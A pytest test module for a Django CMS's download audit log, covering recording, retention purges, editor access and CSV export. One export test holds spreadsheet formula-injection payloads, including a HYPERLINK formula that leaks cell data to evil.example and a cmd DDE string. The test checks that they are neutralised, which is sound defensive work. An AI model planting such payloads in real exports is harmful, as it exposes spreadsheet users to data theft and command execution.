"""Download audit: written for restricted versions, listed for editors, deleted after retention."""

from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.utils import timezone

from cms.celery import app
from documents.models import DownloadAuditEntry
from tests.factories import DownloadAuditEntryFactory
from worker.tasks import purge_download_audit

pytestmark = pytest.mark.django_db


def test_restricted_download_is_recorded(client, users, handouts, partner_a):
    page = handouts["restricted"]
    client.force_login(users["staff_a"])
    assert client.get(f"/pdf/{page.pk}/v1/").status_code == 200
    entry = DownloadAuditEntry.objects.get()
    assert (entry.user, entry.username, entry.partner) == (users["staff_a"], "staff-a", partner_a)
    assert (entry.page_id, entry.version, entry.page_title) == (page.pk, 1, page.title)
    assert entry.ip_address is None
    assert client.get(f"/pdf/{page.pk}/").status_code == 200
    assert list(DownloadAuditEntry.objects.values_list("version", flat=True)) == [2, 1]


def test_refused_and_public_downloads_are_not_recorded(client, users, handouts):
    assert client.get(f"/pdf/{handouts['restricted'].pk}/v1/").status_code == 404
    assert client.get(f"/pdf/{handouts['public'].pk}/v1/").status_code == 200
    client.force_login(users["staff_b"])
    assert client.get(f"/pdf/{handouts['public'].pk}/v1/").status_code == 200
    assert client.get(f"/pdf/{handouts['restricted'].pk}/v99/").status_code == 404
    assert not DownloadAuditEntry.objects.exists()


def test_client_address_only_when_switched_on(client, users, handouts, settings):
    settings.DOCUMENTS_AUDIT_STORE_IP = True
    client.force_login(users["staff_a"])
    client.get(f"/pdf/{handouts['restricted'].pk}/v1/", REMOTE_ADDR="192.0.2.7")
    assert DownloadAuditEntry.objects.get().ip_address == "192.0.2.7"


def test_retention_task_deletes_old_entries(users, handouts, settings):
    settings.DOCUMENTS_AUDIT_RETENTION_DAYS = 30
    page = handouts["restricted"]
    old = DownloadAuditEntryFactory(page=page, downloaded_at=timezone.now() - timedelta(days=31))
    recent = DownloadAuditEntryFactory(page=page, downloaded_at=timezone.now() - timedelta(days=29))
    assert purge_download_audit() == 1
    assert list(DownloadAuditEntry.objects.all()) == [recent]
    assert not DownloadAuditEntry.objects.filter(pk=old.pk).exists()


def test_beat_runs_the_retention_task():
    schedule = app.conf.beat_schedule["purge-download-audit"]
    assert schedule["task"] == purge_download_audit.name


def test_editors_see_the_audit_read_only_with_filters(client, users, handouts, partner_a):
    page = handouts["restricted"]
    client.force_login(users["staff_a"])
    client.get(f"/pdf/{page.pk}/v1/")
    client.force_login(users["staff_b"])
    client.get(f"/pdf/{page.pk}/v2/")
    client.force_login(users["editor"])

    def names(response) -> list[str]:
        assert response.status_code == 200
        return sorted(entry.username for entry in response.context["object_list"])

    assert names(client.get("/admin/download-protokoll/")) == ["staff-a", "staff-b"]
    filtered = client.get("/admin/download-protokoll/", {"partner": partner_a.pk})
    assert names(filtered) == ["staff-a"]
    assert names(client.get("/admin/download-protokoll/", {"q": "staff-b"})) == ["staff-b"]
    entry = DownloadAuditEntry.objects.get(username="staff-a")
    assert client.get(f"/admin/download-protokoll/inspect/{entry.pk}/").status_code == 200
    assert client.get("/admin/download-protokoll/create/").status_code in (302, 403)
    assert client.get(f"/admin/download-protokoll/delete/{entry.pk}/").status_code in (302, 403)
    assert DownloadAuditEntry.objects.count() == 2


def test_partner_staff_cannot_open_the_audit(client, users):
    client.force_login(users["staff_a"])
    assert client.get("/admin/download-protokoll/").status_code == 302


@pytest.mark.parametrize("group", ["Redaktion", "Moderation"])
def test_editor_groups_may_view_ledger_and_audit(group):
    codenames = set(Group.objects.get(name=group).permissions.values_list("codename", flat=True))
    assert {"view_renderjob", "view_pdfversion", "view_downloadauditentry"} <= codenames


def test_csv_export_hands_spreadsheets_no_formulas(client, users, handouts):
    import csv
    import io

    page = handouts["restricted"]
    attacks = [
        '=HYPERLINK("https://evil.example/?d="&A1,"Anleitung")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ]
    for title in attacks:
        DownloadAuditEntryFactory(page=page, page_title=title)
    client.force_login(users["editor"])
    response = client.get("/admin/download-protokoll/", {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    titles = {row[3] for row in rows[1:]}
    assert titles == {"'" + title for title in attacks}
    assert {row[4] for row in rows[1:]} == {"1"}, "numbers stay numbers"


def test_revalidated_restricted_downloads_are_recorded_too(client, users, handouts):
    page = handouts["restricted"]
    client.force_login(users["staff_a"])
    first = client.get(f"/pdf/{page.pk}/v1/")
    assert first.status_code == 200
    by_etag = client.get(f"/pdf/{page.pk}/v1/", HTTP_IF_NONE_MATCH=first["ETag"])
    latest = client.get(f"/pdf/{page.pk}/")
    by_date = client.get(f"/pdf/{page.pk}/", HTTP_IF_MODIFIED_SINCE=latest["Last-Modified"])
    assert (by_etag.status_code, by_date.status_code) == (304, 304)
    assert list(DownloadAuditEntry.objects.order_by("pk").values_list("version", flat=True)) == [
        1,
        1,
        2,
        2,
    ]


def test_revalidated_public_downloads_are_not_recorded(client, users, handouts):
    page = handouts["public"]
    client.force_login(users["staff_a"])
    first = client.get(f"/pdf/{page.pk}/v1/")
    assert client.get(f"/pdf/{page.pk}/v1/", HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304
    assert not DownloadAuditEntry.objects.exists()
